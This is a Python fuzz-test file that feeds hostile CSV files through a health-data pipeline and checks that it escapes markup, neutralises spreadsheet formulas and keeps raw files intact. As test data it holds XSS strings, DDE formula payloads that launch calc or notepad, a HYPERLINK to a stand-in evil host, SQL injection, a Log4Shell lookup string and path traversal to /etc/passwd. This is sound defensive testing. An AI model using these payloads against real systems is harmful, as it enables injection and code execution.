"""Hostile-input fuzzing: generated CSVs with random headers, delimiters, quoting, encodings,
sizes, numeric edge cases and injection payloads never break the pipeline.

Invariants for every generated file: no traceback; exit code 0 or 2; when processed,
rows.input = valid + rejected and the output files hold exactly those rows; no injected
markup reaches a report unescaped; no CSV output cell starts a spreadsheet formula; the raw
file is never deleted.

Examples: HEALTHPIPE_FUZZ_EXAMPLES (default 25, for CI); e.g. 500 for a long local run.
Shrinking a failure to a minimal file is slow (minutes), so it is off unless
HEALTHPIPE_FUZZ_SHRINK=1; a failure prints the whole generated file either way.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, event, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from healthpipe.cli import app
from healthpipe.constants import REQUIRED_COLUMNS

EXAMPLES = int(os.environ.get("HEALTHPIPE_FUZZ_EXAMPLES", "25"))
PHASES = (Phase.explicit, Phase.reuse, Phase.generate) + (
    (Phase.shrink,) if os.environ.get("HEALTHPIPE_FUZZ_SHRINK") == "1" else ()
)
NUMBER = re.compile(r"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</td><iframe src=javascript:alert(1)>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "=cmd|' /C notepad'!'A1'",
)
OTHER_PAYLOADS = (
    "'; DROP TABLE ledger; --",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    "\u202egnp.exe",
    "{{7*7}}",
    "%s%s%n",
    "名前",
)
PAYLOADS = MARKUP + FORMULAS + OTHER_PAYLOADS
NUMERIC_EDGES = (
    "",
    " ",
    "0",
    "-0",
    "+72",
    " 72 ",
    "72.",
    ".5",
    "1e2",
    "1E308",
    "1e309",
    "-1e-320",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "0x48",
    "1_000",
    "72,5",
    "٧٢",
    "9" * 400,
    "72.0000001",
    "50",
    "180",
    "49.999999",
    "300.0000001",
    "100",
    "99.9",
    "35.0",
    "44",
    "20",
    "120",
)
TIMES = (
    "2026-11-01T00:00:00Z",
    "2026-11-01 08:30:00",
    "2026-11-01T00:00:00+05:30",
    "2026-11-01",
    "2026-13-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "yesterday",
    "",
    "1700000000",
    "2026-11-01T00:00:00.123456789Z",
    "9999-12-31T23:59:59Z",
)
SAFE_NAMES = ("vitals", "export 2026", "ünïcödé", "a.b.c", "x" * 60)
HOSTILE_NAMES = ("<script>alert(1)<", "=cmd", "name';--", "..", "%2e%2e")


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    markup: tuple[str, ...]  # injected markup strings that must never appear raw in reports


def _vital(draw: st.DrawFn) -> str:
    choice = draw(st.integers(0, 9))
    if choice < 5:  # mostly plausible values, so that many files process
        return str(draw(st.integers(55, 130)))
    if choice < 8:
        return draw(st.sampled_from(NUMERIC_EDGES))
    if choice < 9:
        return repr(draw(st.floats(allow_nan=True, allow_infinity=True)))
    return draw(st.sampled_from(PAYLOADS))


def _cell(draw: st.DrawFn, column: str) -> str:
    if column == "event_time":
        return draw(st.sampled_from(TIMES))
    if column == "user_id":
        return draw(
            st.one_of(
                st.sampled_from(("u1", "u2", "u3", " u4 ")),
                st.sampled_from(PAYLOADS),
                st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), max_size=12),
            )
        )
    if column in REQUIRED_COLUMNS:
        return _vital(draw)
    return draw(
        st.one_of(
            st.sampled_from(PAYLOADS),
            st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), max_size=20),
        )
    )


@st.composite
def hostile_csv(draw: st.DrawFn) -> Hostile:
    columns = list(REQUIRED_COLUMNS)
    if draw(st.integers(0, 9)) == 0:
        columns.remove(draw(st.sampled_from(REQUIRED_COLUMNS)))  # a missing column
    columns += draw(
        st.lists(
            st.sampled_from(("note", "device", "=evil", "<b>x</b>", "Heart Rate", "@x")),
            max_size=2,
            unique=True,
        )
    )
    columns = draw(st.permutations(columns))
    header = [
        draw(st.sampled_from((c, c.upper(), f" {c} ", c.title()))) if c in REQUIRED_COLUMNS else c
        for c in columns
    ]
    rows = [[_cell(draw, c) for c in columns] for _ in range(draw(st.integers(0, 30)))]
    for row in rows:  # ragged rows now and then
        if draw(st.integers(0, 19)) == 0:
            del row[draw(st.integers(0, len(row) - 1)) :]
    delimiter = draw(st.sampled_from((",",) * 12 + (";", "\t", "|")))
    quoting = draw(st.sampled_from((csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC)))
    text_buffer = io.StringIO()
    writer = csv.writer(
        text_buffer,
        delimiter=delimiter,
        quoting=quoting,
        lineterminator=draw(st.sampled_from(("\n", "\r\n"))),
    )
    writer.writerow(header)
    writer.writerows(rows)
    text = text_buffer.getvalue()
    if draw(st.integers(0, 9)) == 0:  # a stray quote or a broken tail
        cut = draw(st.integers(0, len(text)))
        text = text[:cut] + draw(st.sampled_from(('"', '"\n"', "\x00", "\n\n\n"))) + text[cut:]
    encoding = draw(st.sampled_from(("utf-8",) * 6 + ("utf-8-sig", "latin-1", "utf-16")))
    data = text.encode(encoding, errors="replace")
    name = draw(st.one_of(st.sampled_from(SAFE_NAMES), st.sampled_from(HOSTILE_NAMES)))
    suffix = ".csv"
    if draw(st.integers(0, 9)) == 0:
        data, suffix = gzip.compress(data), ".csv.gz"
    markup = tuple(m for m in MARKUP if m in text) + tuple(n for n in (name,) if "<" in n)
    return Hostile(name + suffix, data, markup)


def _check_csv_outputs(bucket: Path) -> dict[str, int]:
    counts: dict[str, int] = {"processed": 0, "rejected": 0}
    for kind in counts:
        for path in (bucket / kind).rglob("*.csv"):
            with path.open(newline="", encoding="utf-8") as handle:
                rows = list(csv.reader(handle))
            counts[kind] += len(rows) - 1
            for row in rows:
                for cell in row:
                    if cell.startswith(FORMULA_START):
                        assert NUMBER.match(cell), f"formula-leading cell in {path.name}: {cell!r}"
    return counts


def _check_reports(workspace: Path, markup: tuple[str, ...]) -> None:
    pages = list((workspace / "bucket" / "reports").rglob("*.html"))
    pages += list((workspace / "outbox").glob("*.html"))
    for page in pages:
        html = page.read_text(encoding="utf-8")
        for payload in markup:
            assert payload not in html, f"unescaped {payload!r} in {page.name}"
        assert "<script" not in html.lower(), f"a script tag in {page.name}"
    for eml in (workspace / "outbox").glob("*.eml"):
        message = BytesParser(policy=policy.default).parse(eml.open("rb"))
        for part in message.walk():
            if part.get_content_type() == "text/html":
                html = part.get_content()
                assert "<script" not in html.lower(), f"a script tag in {eml.name}"
                for payload in markup:
                    assert payload not in html, f"unescaped {payload!r} in {eml.name}"


def check_run(workspace: Path, hostile: Hostile) -> str:
    """Run `hostile` through `healthpipe run --json` in process; check every invariant.
    Returns the status and the start of the error (for the fuzz statistics)."""
    source_dir = workspace.parent / "in"
    source_dir.mkdir(parents=True, exist_ok=True)
    source = source_dir / hostile.name
    source.write_bytes(hostile.data)

    result = CliRunner().invoke(app, ["run", str(source), "-w", str(workspace), "--json"])

    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.output
    assert result.exit_code in {0, 2}, result.output[-2000:]
    [outcome] = json.loads(result.stdout.strip().splitlines()[-1])["files"]
    assert outcome["status"] in {"processed", "rejected"}
    assert (result.exit_code == 2) == (outcome["status"] == "rejected")
    bucket = workspace / "bucket"
    assert (bucket / "raw" / source.name).read_bytes() == hostile.data, "raw file changed"
    counts = _check_csv_outputs(bucket)
    rows = outcome["rows"]
    if outcome["status"] == "processed":
        assert rows["input"] == rows["valid"] + rows["rejected"]
        assert counts == {"processed": rows["valid"], "rejected": rows["rejected"]}
    else:
        assert outcome["error"] and "\n" not in outcome["error"]
    _check_reports(workspace, hostile.markup)
    return f"{outcome['status']}: {(outcome['error'] or '')[:30]}"


@settings(
    max_examples=EXAMPLES,
    phases=PHASES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(hostile=hostile_csv())
def test_hostile_csv_never_breaks_the_pipeline(hostile: Hostile) -> None:
    with tempfile.TemporaryDirectory(prefix="hp-fuzz-") as tmp:
        event(check_run(Path(tmp) / "ws", hostile))


@pytest.mark.parametrize(
    "name", ["a+b.csv", "100%.csv", "%2e%2e.csv", "with space.csv", "x%41y+z.csv.gz"]
)
def test_file_names_with_url_escapes_are_ingested_under_their_own_key(
    name: str, tmp_path: Path
) -> None:
    """Regression: ingest URL-decodes event keys (S3 sends them encoded); the local runtime
    published them raw, so `a+b.csv` was looked up as `a b.csv` and dead-lettered."""
    text = (
        b"event_time,user_id,heart_rate,spo2,steps,temp_c,systolic_bp,diastolic_bp\n"
        b"2026-11-01T00:00:00Z,u1,70,98,10,36.6,120,80\n"
    )
    data = gzip.compress(text) if name.endswith(".gz") else text
    check_run(tmp_path / "ws", Hostile(name, data, ()))
    manifest = next((tmp_path / "ws" / "bucket" / "manifests").glob("*.json"))
    assert json.loads(manifest.read_text())["source"]["key"] == f"raw/{name}"


def test_header_cells_are_neutralised(tmp_path: Path) -> None:
    """Regression found by the fuzz run: a column named `=evil` reached the processed/ and
    rejected/ CSV headers as `=evil`, a formula a spreadsheet would run."""
    data = (
        b"event_time,user_id,heart_rate,spo2,steps,temp_c,systolic_bp,diastolic_bp,=evil\n"
        b"2026-11-01T00:00:00Z,u1,70,98,10,36.6,120,80,x\n"
        b"2026-11-01T00:01:00Z,u1,70,98,10,36.6,120,800,x\n"
    )
    check_run(tmp_path / "ws", Hostile("formula-header.csv", data, ()))
    for path in (tmp_path / "ws" / "bucket").rglob("*.csv"):
        if "raw" in path.parts:
            continue
        header = path.read_text(encoding="utf-8").splitlines()[0].split(",")
        assert not [c for c in header if c.startswith(FORMULA_START)], (path.name, header)


FIXED_CASES = {
    "utf16-with-bom.csv": "event_time,user_id,heart_rate,spo2,steps,temp_c,systolic_bp,"
    "diastolic_bp\n2026-11-01T00:00:00Z,u1,70,98,10,36.6,120,80\n".encode("utf-16"),
    "formulas-and-markup.csv": (
        b"event_time,user_id,heart_rate,spo2,steps,temp_c,systolic_bp,diastolic_bp,note\n"
        b'2026-11-01T00:00:00Z,"=HYPERLINK(""http://x"")",70,98,10,36.6,120,80,<script>x</script>\n'
        b"2026-11-01T00:01:00Z,@SUM(A1),=1+2,98,10,36.6,120,80,-2+3\n"
    ),
    "latin1-semicolons.csv": (
        "event_time;user_id;heart_rate;spo2;steps;temp_c;systolic_bp;diastolic_bp\n"
        "2026-11-01T00:00:00Z;jürgen;70;98;10;36,6;120;80\n"
    ).encode("latin-1"),
}


@pytest.mark.parametrize("name", sorted(FIXED_CASES))
def test_hostile_files_through_the_real_command(name: str, tmp_path: Path) -> None:
    source = tmp_path / name
    source.write_bytes(FIXED_CASES[name])
    workspace = tmp_path / "ws"
    env = {k: v for k, v in os.environ.items() if not k.startswith("HEALTHPIPE_")}
    proc = subprocess.run(
        [
            str(Path(sys.executable).with_name("healthpipe")),
            "run",
            str(source),
            "-w",
            str(workspace),
            "--json",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=False,
    )
    assert proc.returncode in {0, 2}, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    [outcome] = json.loads(proc.stdout)["files"]
    assert (workspace / "bucket" / "raw" / name).read_bytes() == FIXED_CASES[name]
    if outcome["status"] == "processed":
        assert outcome["rows"]["input"] == outcome["rows"]["valid"] + outcome["rows"]["rejected"]
    _check_csv_outputs(workspace / "bucket")
    _check_reports(workspace, MARKUP)
